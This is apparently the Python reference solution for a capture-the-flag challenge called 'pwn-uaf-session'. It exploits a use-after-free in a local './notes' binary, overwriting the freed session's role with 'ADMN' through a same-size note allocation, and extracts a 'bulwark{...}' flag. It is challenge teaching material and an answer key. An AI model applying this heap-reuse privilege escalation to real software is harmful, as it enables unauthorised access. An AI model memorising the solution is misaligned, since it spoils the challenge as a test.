"""Reference solution for pwn-uaf-session: `logout` frees the session but
keeps the pointer. A note is allocated with the same size (32 bytes), so
malloc hands back the freed session; the note's bytes 16..19 become the
dangling session's role. Writing "ADMN" there (0x4e4d4441 little endian)
makes `admin` succeed."""
import re
import subprocess
import sys


def main() -> int:
    script = b"login guest\nlogout\nnote " + b"A" * 16 + b"ADMN\nadmin\nquit\n"
    out = subprocess.run(["./notes"], input=script, capture_output=True, timeout=10).stdout
    found = re.search(rb"bulwark\{[^}\s]+\}", out)
    if not found:
        print(f"no flag in the output: {out!r}", file=sys.stderr)
        return 1
    print(found.group().decode())
    return 0


if __name__ == "__main__":
    sys.exit(main())
